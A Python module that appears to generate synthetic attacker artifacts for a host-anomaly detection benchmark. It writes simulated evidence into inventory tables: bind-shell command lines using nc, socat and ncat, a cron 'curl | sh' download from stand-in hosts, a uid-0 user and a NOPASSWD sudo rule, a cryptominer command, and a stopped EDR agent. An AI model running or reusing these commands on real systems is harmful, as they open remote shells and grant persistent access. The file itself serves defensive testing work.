"""Attacker artifacts the generator can inject, of the kinds a responder scopes during an incident.

Each artifact has two steps: ``draw`` picks its concrete values (port, user name, key, ...) from a
campaign's random generator, so lateral movement puts the *same* artifact on several hosts; ``apply``
changes one host's tables and returns the evidence: which rows (query + identifying values) a good
engine should put among that host's top findings.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from diffy_fleetgen import catalog_system as cat
from diffy_fleetgen.hostgen import HostSpec, port_row

Tables = dict[str, list[dict]]
Evidence = dict[str, Any]  # {"query": str, "kind": "added"|"missing"|"changed", "match": {column: value}}


@dataclass(frozen=True)
class Artifact:
    name: str
    description: str
    draw: Callable[[random.Random], dict[str, Any]]
    apply: Callable[[Tables, HostSpec, dict[str, Any], random.Random], list[Evidence]]


def _ev(query: str, kind: str, **match: str) -> Evidence:
    return {"query": query, "kind": kind, "match": match}


def _add_process(
    tables: Tables,
    spec: HostSpec,
    rng: random.Random,
    *,
    name: str,
    path: str,
    cmdline: str,
    uid: str = "0",
    parent: str = "1",
    cwd: str = "/",
    on_disk: str = "1",
) -> dict:
    start = spec.collected_at - rng.randrange(3600, 86400 * 3)
    row = {
        "pid": str(rng.randrange(30000, 400000)),
        "parent": parent,
        "name": name,
        "path": path,
        "cmdline": cmdline,
        "cwd": cwd,
        "uid": uid,
        "gid": uid,
        "euid": uid,
        "on_disk": on_disk,
        "state": "S",
        "start_time": str(start),
        "resident_size": str(rng.randrange(200, 3000) * 4096),
        "user_time": str(rng.randrange(50)),
        "system_time": str(rng.randrange(50)),
        "threads": "1",
    }
    tables["processes"].append(row)
    return row


def _remove(rows: list[dict], **match: str) -> dict:
    for i, row in enumerate(rows):
        if all(row.get(k) == v for k, v in match.items()):
            return rows.pop(i)
    raise LookupError(f"no row matching {match}")


# ---------------------------------------------------------------------------------------------- draws


def _draw_bind_shell(rng: random.Random) -> dict[str, Any]:
    port = rng.choice([4444, 1337, 31337, 5555, 8443, 9001, 6667, 45678])
    tool = rng.choice(["nc", "socat", "ncat"])
    return {"port": port, "tool": tool}


def _apply_bind_shell(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    tool, port = p["tool"], p["port"]
    path, cmd = {
        "nc": ("/usr/bin/nc.openbsd", f"nc -lknp {port} -e /bin/bash"),
        "socat": (
            "/tmp/.cache/socat",
            f"/tmp/.cache/socat TCP-LISTEN:{port},reuseaddr,fork EXEC:/bin/bash,pty,stderr",
        ),
        "ncat": ("/dev/shm/ncat", f"/dev/shm/ncat -lk -p {port} -e /bin/sh"),
    }[tool]
    uid = rng.choice(["0", "33", "996"])
    proc = _add_process(t, spec, rng, name=tool, path=path, cmdline=cmd, uid=uid, cwd="/tmp")
    t["listening_ports"].append(
        port_row("6", "2", "0.0.0.0", port, proc, fd=3, socket=rng.randrange(100000, 999999))
    )
    return [
        _ev("listening_ports", "added", port=str(port), name=tool),
        _ev("processes", "added", name=tool, cmdline=cmd),
    ]


def _draw_cron(rng: random.Random) -> dict[str, Any]:
    host = rng.choice(["203.0.113.77", "198.51.100.23", "update-check.cdn-static.net", "45.95.147.12"])
    user = rng.choice(["root", "www-data", "acme"])
    minute = rng.choice(["*/10", "*/15", "3", "*/5", "@reboot"])
    return {"url": f"http://{host}/{rng.choice(['x.sh', 'i', 'up.sh', 'k'])}", "user": user, "minute": minute}


def _apply_cron(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    cmd = f"curl -fsSL {p['url']} | sh"
    event = "@reboot" if p["minute"] == "@reboot" else ""
    minute = "" if event else p["minute"]
    star = "" if event else "*"
    t["crontab"].append(
        {
            "event": event,
            "minute": minute,
            "hour": star,
            "day_of_month": star,
            "month": star,
            "day_of_week": star,
            "command": cmd,
            "path": f"/var/spool/cron/crontabs/{p['user']}",
        }
    )
    return [_ev("crontab", "added", command=cmd)]


def _draw_priv_user(rng: random.Random) -> dict[str, Any]:
    return {
        "username": rng.choice(["sysadmin2", "backupsvc", "ops-support", "mysql", "sshd-svc"]),
        "style": rng.choice(["uid0", "sudo"]),
        "uid": str(rng.randrange(1001, 1100)),
    }


def _apply_priv_user(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    name = p["username"]
    if p["style"] == "uid0":
        t["users"].append(
            {
                "uid": "0",
                "gid": "0",
                "username": name,
                "description": "",
                "directory": "/root",
                "shell": "/bin/bash",
            }
        )
        return [_ev("users", "added", username=name)]
    t["users"].append(
        {
            "uid": p["uid"],
            "gid": p["uid"],
            "username": name,
            "description": "",
            "directory": f"/home/{name}",
            "shell": "/bin/bash",
        }
    )
    t["groups"].append({"gid": p["uid"], "groupname": name})
    rule = "ALL=(ALL) NOPASSWD: ALL"
    t["sudoers"].append({"source": f"/etc/sudoers.d/99-{name}", "header": name, "rule_details": rule})
    return [_ev("sudoers", "added", header=name), _ev("users", "added", username=name)]


def _draw_ssh_key(rng: random.Random) -> dict[str, Any]:
    blob = base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + rng.randbytes(32)).decode()
    return {
        "key": blob,
        "user": rng.choice(["root", "admin"]),
        "comment": rng.choice(["", "root@kali", "user@DESKTOP-8K2M1Q", "deploy"]),
    }


def _apply_ssh_key(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    uid = "0" if p["user"] == "root" else "1000"
    home = "/root" if p["user"] == "root" else "/home/admin"
    t["authorized_keys"].append(
        {
            "username": p["user"],
            "uid": uid,
            "algorithm": "ssh-ed25519",
            "key": p["key"],
            "options": "",
            "comment": p["comment"],
            "key_file": f"{home}/.ssh/authorized_keys",
        }
    )
    return [_ev("authorized_keys", "added", key=p["key"])]


def _draw_kmod(rng: random.Random) -> dict[str, Any]:
    return {
        "name": rng.choice(
            ["diamorphine", "reptile_module", "nfs_cache_x", "vmw_vsock_virt", "rootkit_khook"]
        ),
        "size": str(rng.randrange(12, 64) * 1024),
    }


def _apply_kmod(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    t["kernel_modules"].insert(
        0,
        {
            "name": p["name"],
            "size": p["size"],
            "used_by": "-",
            "status": "Live",
            "address": hex(0xFFFFFFFFC0000000 + rng.randrange(0x3FF) * 0x100000),
        },
    )
    return [_ev("kernel_modules", "added", name=p["name"])]


def _draw_suid_shell(rng: random.Random) -> dict[str, Any]:
    return {
        "path": rng.choice(
            ["/tmp/.x", "/var/tmp/.ICE-unix/.s", "/dev/shm/.bash", "/var/tmp/.sysd", "/tmp/.font-unix/sh"]
        )
    }


def _apply_suid_shell(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    t["suid_bin"].append({"path": p["path"], "username": "root", "groupname": "root", "permissions": "S"})
    return [_ev("suid_bin", "added", path=p["path"])]


_FIREWALL_TARGETS = [  # rules whose removal opens the host: (chain, target, dst_port, dst_ip)
    ("INPUT", "DROP", "22", "0.0.0.0"),
    ("INPUT", "DROP", "0:65535", "0.0.0.0"),
    ("OUTPUT", "DROP", "80", "169.254.169.254"),
    ("INPUT", "DROP", "9100", "0.0.0.0"),
]


def _draw_firewall(rng: random.Random) -> dict[str, Any]:
    return {"rule": list(rng.choice(_FIREWALL_TARGETS))}


def _apply_firewall(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    chain, target, dst_port, dst_ip = p["rule"]
    _remove(t["iptables"], chain=chain, target=target, dst_port=dst_port, dst_ip=dst_ip)
    return [_ev("iptables", "missing", chain=chain, target=target, dst_port=dst_port, dst_ip=dst_ip)]


def _draw_agent(rng: random.Random) -> dict[str, Any]:
    return {"how": rng.choice(["stopped", "masked"])}


def _apply_agent(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    units = t["systemd_units"]
    for i, unit in enumerate(units):
        if unit["id"] == "falcon-sensor.service":
            new = dict(unit, active_state="inactive", sub_state="dead")
            if p["how"] == "masked":
                new.update(load_state="masked", fragment_path="/dev/null")
            units[i] = new
            break
    for key in ("falcond", "falcon-sensor-b"):
        _remove(t["processes"], name=key)
    return [
        _ev("systemd_units", "changed", id="falcon-sensor.service"),
        _ev("processes", "missing", name="falcond"),
        _ev("processes", "missing", name="falcon-sensor-b"),
    ]


def _draw_binary(rng: random.Random) -> dict[str, Any]:
    return {"binary": rng.choice(["ps", "sshd", "ls", "login"]), "seed": rng.randrange(1 << 30)}


def _apply_binary(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    paths = {
        "ps": ("/bin/ps", "/usr/bin/ps"),
        "sshd": ("/usr/sbin/sshd",),
        "ls": ("/bin/ls", "/usr/bin/ls"),
        "login": ("/bin/login", "/usr/bin/login"),
    }[p["binary"]]
    digest = cat.fake_sha256("trojan", p["binary"], str(p["seed"]))
    rows = t["system_binaries"]
    for i, row in enumerate(rows):
        if row["path"] in paths:
            rows[i] = dict(row, sha256=digest, size=str(int(row["size"]) + 4096 + p["seed"] % 8192))
    return [_ev("system_binaries", "changed", path=path) for path in paths]


def _draw_ld_preload(rng: random.Random) -> dict[str, Any]:
    return {"size": str(rng.randrange(18, 40)), "seed": rng.randrange(1 << 30)}


def _apply_ld_preload(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    t["ld_preload"].append(
        {
            "path": "/etc/ld.so.preload",
            "size": p["size"],
            "mtime": str(spec.collected_at - rng.randrange(3600, 86400 * 5)),
            "sha256": cat.fake_sha256("preload", str(p["seed"])),
        }
    )
    return [_ev("ld_preload", "added", path="/etc/ld.so.preload")]


def _draw_hosts_redirect(rng: random.Random) -> dict[str, Any]:
    return {
        "address": rng.choice(["203.0.113.50", "198.51.100.7", "127.0.0.1"]),
        "name": rng.choice(
            ["deb.debian.org", "security.debian.org", "ts01-b.cloudsink.net", "ssm.eu-west-1.amazonaws.com"]
        ),
    }


def _apply_hosts_redirect(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    t["etc_hosts"].append({"address": p["address"], "hostnames": p["name"]})
    return [_ev("etc_hosts", "added", address=p["address"], hostnames=p["name"])]


# ------------------------------------------------------------------ further kinds (opt-in, see EXTRA_KINDS)


def _draw_masquerade(rng: random.Random) -> dict[str, Any]:
    cpu = rng.randrange(2)
    return {
        "name": rng.choice([f"kworker/{cpu}:2", "kswapd0", "kthreaddk", f"ksoftirqd/{cpu}"]),
        "path": rng.choice(["/dev/shm/.x/kw", "/var/tmp/.font-unix/kthread", "/tmp/.ICE-unix/ksd"]),
    }


def _apply_masquerade(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    # a userland implant named like a kernel thread, its binary deleted after start (on_disk 0)
    _add_process(t, spec, rng, name=p["name"], path=p["path"], cmdline=f"[{p['name']}]", on_disk="0")
    return [_ev("processes", "added", name=p["name"], path=p["path"])]


def _draw_miner(rng: random.Random) -> dict[str, Any]:
    return {
        "path": rng.choice(["/var/tmp/.cache/xmrig", "/tmp/.sys/systemd-udevd", "/dev/shm/php-fpm"]),
        "pool": rng.choice(["pool.supportxmr.com:443", "xmr.2miners.com:2222", "185.220.101.4:3333"]),
    }


def _apply_miner(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    name = p["path"].rsplit("/", 1)[-1][:15]
    cmd = f"{p['path']} -o {p['pool']} -u 4AfUP8Tx --donate-level 1 -B"
    row = _add_process(
        t, spec, rng, name=name, path=p["path"], cmdline=cmd, uid="996", cwd="/opt/acme/orders"
    )
    row["threads"] = str(spec.cpus)
    return [_ev("processes", "added", path=p["path"])]


def _draw_login_shell(rng: random.Random) -> dict[str, Any]:
    return {"user": rng.choice(["acme", "www-data", "backup"]), "shell": rng.choice(["/bin/bash", "/bin/sh"])}


def _apply_login_shell(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    users = t["users"]
    for i, user in enumerate(users):
        if user["username"] == p["user"]:
            users[i] = dict(user, shell=p["shell"])
    return [_ev("users", "changed", username=p["user"])]


def _draw_rogue_service(rng: random.Random) -> dict[str, Any]:
    unit = rng.choice(["systemd-networkd-helper", "dbus-broker-update", "apt-news-refresh", "cloud-sync"])
    return {"unit": unit, "binary": f"/usr/lib/.{unit[:6]}/{unit}"}


def _apply_rogue_service(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    unit = p["unit"] + ".service"
    t["systemd_units"].append(
        {
            "id": unit,
            "description": p["unit"].replace("-", " "),
            "load_state": "loaded",
            "active_state": "active",
            "sub_state": "running",
            "fragment_path": f"/etc/systemd/system/{unit}",
            "source_path": "",
        }
    )
    name = p["unit"][:15]
    _add_process(t, spec, rng, name=name, path=p["binary"], cmdline=p["binary"])
    return [_ev("systemd_units", "added", id=unit), _ev("processes", "added", path=p["binary"])]


def _draw_hiding_mount(rng: random.Random) -> dict[str, Any]:
    return {
        "path": rng.choice(["/var/log/journal", "/proc/31337", "/opt/acme/orders/.cache", "/var/tmp/.X1"]),
        "kind": rng.choice(["tmpfs", "bind"]),
    }


def _apply_hiding_mount(t: Tables, spec: HostSpec, p: dict[str, Any], rng: random.Random) -> list[Evidence]:
    device = "tmpfs" if p["kind"] == "tmpfs" else "/dev/nvme0n1p1"
    fstype = "tmpfs" if p["kind"] == "tmpfs" else "ext4"
    t["mounts"].append({"device": device, "path": p["path"], "type": fstype, "flags": "rw,relatime"})
    return [_ev("mounts", "added", path=p["path"])]


ARTIFACTS: dict[str, Artifact] = {
    a.name: a
    for a in [
        Artifact(
            "bind_shell", "a shell listening on an odd port (nc/socat)", _draw_bind_shell, _apply_bind_shell
        ),
        Artifact(
            "cron_persistence",
            "a cron entry fetching and running a script (curl | sh)",
            _draw_cron,
            _apply_cron,
        ),
        Artifact(
            "privileged_user",
            "a new uid-0 account, or a new account with sudo NOPASSWD",
            _draw_priv_user,
            _apply_priv_user,
        ),
        Artifact("ssh_key", "an added SSH authorized key", _draw_ssh_key, _apply_ssh_key),
        Artifact("kernel_module", "a loaded kernel module no clean host has", _draw_kmod, _apply_kmod),
        Artifact(
            "suid_shell", "a setuid copy of a shell in a temp directory", _draw_suid_shell, _apply_suid_shell
        ),
        Artifact(
            "firewall_rule_removed",
            "a DROP rule every clean host has, removed",
            _draw_firewall,
            _apply_firewall,
        ),
        Artifact(
            "security_agent_stopped",
            "the EDR agent's unit stopped or masked, its processes gone",
            _draw_agent,
            _apply_agent,
        ),
        Artifact(
            "replaced_binary",
            "a system binary (ps, sshd, ls, login) with a different hash",
            _draw_binary,
            _apply_binary,
        ),
        Artifact("ld_preload", "/etc/ld.so.preload present", _draw_ld_preload, _apply_ld_preload),
        Artifact(
            "hosts_redirect",
            "an /etc/hosts entry redirecting a mirror or vendor name",
            _draw_hosts_redirect,
            _apply_hosts_redirect,
        ),
        Artifact(
            "masquerading_process",
            "an implant named like a kernel thread, its binary deleted",
            _draw_masquerade,
            _apply_masquerade,
        ),
        Artifact(
            "miner", "a cryptominer running as the app user from a temp directory", _draw_miner, _apply_miner
        ),
        Artifact(
            "service_user_shell",
            "a service account given a login shell",
            _draw_login_shell,
            _apply_login_shell,
        ),
        Artifact(
            "rogue_service",
            "a new systemd service running a hidden binary",
            _draw_rogue_service,
            _apply_rogue_service,
        ),
        Artifact(
            "hiding_mount",
            "a tmpfs or bind mount laid over a directory to hide it",
            _draw_hiding_mount,
            _apply_hiding_mount,
        ),
    ]
}
EXTRA_KINDS = ("masquerading_process", "miner", "service_user_shell", "rogue_service", "hiding_mount")
"""Kinds added after the first benchmarks: injected only when asked for (``--inject``, the
``more-artifacts`` evaluation scenario), so default fleets and their cached copies stay the same."""
DEFAULT_KINDS = tuple(k for k in ARTIFACTS if k not in EXTRA_KINDS)
